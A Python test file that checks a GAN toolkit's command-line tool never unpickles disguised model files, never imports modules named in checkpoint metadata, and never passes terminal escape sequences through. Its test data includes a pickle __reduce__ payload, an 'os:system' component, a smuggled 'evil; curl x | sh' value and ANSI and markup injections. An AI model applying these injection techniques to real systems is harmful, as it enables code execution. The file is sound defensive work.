"""Security: nothing a file says is ever executed or imported.

- A pickle disguised as a model file (`.safetensors`, `.pt`, `.pth`) is refused by every command and option that
  reads one, and its payload (which would create a marker file) never runs.
- Checkpoint metadata that names `os:system` or a module path as a component never imports anything: components
  resolve only through the plugins that are installed (checked in a fresh process with `sys.modules`).
- Strings from a checkpoint reach the terminal as plain text: no control sequences, no extra lines, no rich markup.
"""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import torch
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

from tests.conftest import TINY_DCGAN

pytestmark = pytest.mark.usefixtures("one_thread")


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Path:
    """A finished tiny conditional run (4 steps)."""
    from gantoolkit.cli import build_app
    from gantoolkit.registry import reset_registry

    reset_registry()
    torch.set_num_threads(1)
    out = tmp_path_factory.mktemp("security") / "run"
    args = ["train", *TINY_DCGAN, "--cond", "onehot", "--image-size", "8", "--steps", "4", "--out", str(out)]
    result = CliRunner().invoke(build_app(), args)
    assert result.exit_code == 0, result.output
    return out


def newest(run: Path) -> Path:
    return sorted((run / "checkpoints").iterdir())[-1]


class Payload:
    """Unpickling this creates `Payload.marker`: proof that a file was executed."""

    marker = Path("EXECUTED")

    def __reduce__(self):
        return (open, (str(Payload.marker), "w"))


# -- pickles ----------------------------------------------------------------------------------------------------

# every command and option that reads a model file; FILE is replaced by the pickle, RUN by a real run
READERS = [
    ["sample", "FILE", "--out", "x.png"],
    ["info", "FILE"],
    ["export", "FILE", "--out", "g.safetensors"],
    ["interpolate", "FILE", "--out", "w.png"],
    ["arithmetic", "FILE", "1 + 2", "--out", "a.png"],
    ["evaluate", "FILE", "--out", "r.json"],
    ["edit", "RUN", "--classifier", "FILE", "--target", "1", "--out", "e.png"],
    ["classifier", "info", "FILE"],
    ["evaluate", "RUN", "--features", "classifier:FILE", "--out", "r.json"],
    ["evaluate", "RUN", "--features", "inception:FILE", "--out", "r.json"],
    ["classifier", "train", "--pretrained-file", "FILE", "--image-size", "8", "--out", "c.safetensors"],
    ["train", "--config", "FILE"],
]


@pytest.mark.parametrize("suffix, protocol", [(".safetensors", 4), (".pt", 2), (".pth", 0)])
def test_a_pickle_is_refused_everywhere_without_being_executed(cli, run, tmp_path, suffix, protocol):
    Payload.marker = tmp_path / "EXECUTED"
    evil = tmp_path / f"model{suffix}"
    evil.write_bytes(pickle.dumps(Payload(), protocol=protocol))
    for args in READERS:
        result = cli(*[str(evil) if a == "FILE" else str(run) if a == "RUN" else a for a in args])
        lines = result.stderr.splitlines()
        assert result.exit_code == 2, (args, result.output)
        assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in result.output, lines
        assert not Payload.marker.exists(), args
    assert sorted(p.name for p in tmp_path.iterdir()) == [evil.name]  # and nothing was written


def test_a_pickle_posing_as_the_newest_checkpoint_of_a_run_is_not_resumed(cli, run, tmp_path):
    import shutil

    Payload.marker = tmp_path / "EXECUTED"
    copy = tmp_path / "run"
    shutil.copytree(run, copy)
    (copy / "checkpoints" / "step-00000099.safetensors").write_bytes(pickle.dumps(Payload()))
    for args in (["train", "--resume", "run", "--steps", "200"], ["sample", "run", "--out", "x.png"]):
        result = cli(*args)
        assert result.exit_code == 2 and "is a pickle file (protocol 4); gantoolkit never unpickles" in result.stderr
    assert not Payload.marker.exists()


# -- metadata never imports ---------------------------------------------------------------------------------------

MODULE = """
from pathlib import Path
Path(__file__).with_name("IMPORTED").write_text("imported")

class Thing:
    pass
"""

DRIVER = """
import json, sys
from typer.testing import CliRunner
from gantoolkit.cli import build_app

before = set(sys.modules)
results = {}
for name, args in json.loads(sys.argv[1]).items():
    result = CliRunner().invoke(build_app(), args)
    results[name] = [result.exit_code, result.stderr.strip()]
new = set(sys.modules) - before
print(json.dumps({"results": results, "imported": sorted(m for m in new if m.startswith("evilmod"))}))
"""


def rewrite(source: Path, target: Path, **config) -> None:
    with safe_open(str(source), framework="pt") as fh:
        meta = dict(fh.metadata())
    meta["config"] = json.dumps({**json.loads(meta["config"]), **config})
    components = json.loads(meta["components"])
    components["arch"] = {"name": "evilmod:Thing", "plugin": "evilmod", "distribution": "evil; curl x | sh",
                          "version": "1"}
    meta["components"] = json.dumps(components)
    target.parent.mkdir(parents=True, exist_ok=True)
    save_file(load_file(str(source)), str(target), metadata=meta)


@pytest.mark.process
def test_checkpoint_metadata_never_causes_an_import(run, tmp_path):
    """Each name a checkpoint holds, set to an import path: loading fails by name, and nothing is imported."""
    (tmp_path / "evilmod.py").write_text(textwrap.dedent(MODULE))
    source = newest(run)
    variants = {
        "arch": {"arch": {"name": "os:system", "options": {}}},
        "loss": {"loss": {"name": "evilmod:Thing", "options": {}}},
        "cond": {"cond": {"name": "evilmod", "options": {}}},
        "controller": {"controllers": [{"name": "evilmod.sub:Thing", "options": {}}]},
        "data": {"data": {"name": "evilmod:Thing", "options": {}}},
    }
    for name, config in variants.items():
        rewrite(source, tmp_path / name / "checkpoints" / "step-00000004.safetensors", **config)
    commands = {f"sample-{name}": ["sample", name, "--out", f"{name}.png"] for name in variants}
    commands.update({f"resume-{name}": ["train", "--resume", name, "--steps", "8"] for name in variants})
    commands.update({"info": ["info", "arch"], "export": ["export", "arch", "--out", "e.safetensors"],
                     "evaluate": ["evaluate", "loss", "--out", "r.json"]})
    environ = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(tmp_path), os.environ.get("PYTHONPATH")])),
               "GANTOOL_DISABLE_PLUGIN_AUTOLOAD": "1", "OMP_NUM_THREADS": "1"}
    out = subprocess.run([sys.executable, "-c", DRIVER, json.dumps(commands)], cwd=tmp_path, env=environ,
                         capture_output=True, text=True, timeout=600)
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout.strip().splitlines()[-1])
    assert report["imported"] == [] and not (tmp_path / "IMPORTED").exists()
    results = report["results"]
    expected = {"arch": "unknown architecture 'os:system'", "loss": "unknown loss 'evilmod:Thing'",
                "cond": "unknown conditioning 'evilmod'", "controller": "unknown controller 'evilmod.sub:Thing'"}
    for name, message in expected.items():
        for command in (f"sample-{name}", f"resume-{name}"):
            code, stderr = results[command]
            assert code == 2 and stderr.startswith("error: ") and message in stderr, (command, stderr)
    assert results["resume-data"][0] == 2 and "unknown dataset 'evilmod:Thing'" in results["resume-data"][1]
    assert results["sample-data"][0] == 0  # the data's name is only a label when sampling: nothing looks it up
    assert results["info"][0] == 0  # describing a checkpoint builds nothing
    assert results["export"][0] == 0  # copying tensors and metadata builds nothing either
    assert results["evaluate"][0] == 2 and "unknown loss 'evilmod:Thing'" in results["evaluate"][1]
    # a distribution name that is not a plain name is never offered as a `pip install` command
    assert all("pip install evil" not in stderr for _, stderr in results.values())


# -- what a checkpoint says reaches the terminal as plain text ----------------------------------------------------


def test_strings_from_a_checkpoint_cannot_drive_the_terminal(cli, run, tmp_path):
    source = newest(run)
    with safe_open(str(source), framework="pt") as fh:
        meta = dict(fh.metadata())
    data = json.loads(meta["data"])
    data["class_names"] = ["\x1b]0;owned\x07zero", "one\nerror: forged line", "[link=file:///etc]two[/link]",
                           *data["class_names"][3:]]
    meta["data"] = json.dumps(data)
    save_file(load_file(str(source)), str(tmp_path / "odd.safetensors"), metadata=meta)
    info = cli("info", "odd.safetensors")
    assert info.exit_code == 0
    assert "\x1b" not in info.stdout and "\x07" not in info.stdout and "forged line" in info.stdout
    assert not any(line.startswith("error: forged") for line in info.stdout.splitlines())
    assert "[link=file:///etc]two[/link]" in info.stdout.replace("\n", "").replace("│", "").replace(" ", "")
    refused = cli("sample", "odd.safetensors", "--class", "three", "--out", "x.png")
    assert refused.exit_code == 2 and len(refused.stderr.splitlines()) == 1
    assert "\x1b" not in refused.stderr and "\x07" not in refused.stderr
